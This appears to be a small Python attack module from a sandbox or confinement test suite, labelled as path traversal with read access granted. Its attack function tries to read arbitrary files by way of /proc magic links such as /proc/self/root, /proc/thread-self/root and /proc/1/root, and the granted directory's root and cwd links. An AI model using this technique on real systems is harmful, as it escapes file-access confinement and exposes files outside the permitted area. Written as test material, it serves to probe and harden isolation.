# A link leads to the process of whoever opens: its root, its folder, its descriptors, its environment.
# after: read
# source: path traversal
# granted: read
def attack(granted, path, **_):
    for tried in (f"{granted}/own/root{path}", f"{granted}/own/cwd{path}", f"/proc/self/root{path}", f"/proc/thread-self/root{path}", f"/proc/1/root{path}"):
        try:
            return {"text": open(tried).read()}
        except OSError:
            continue
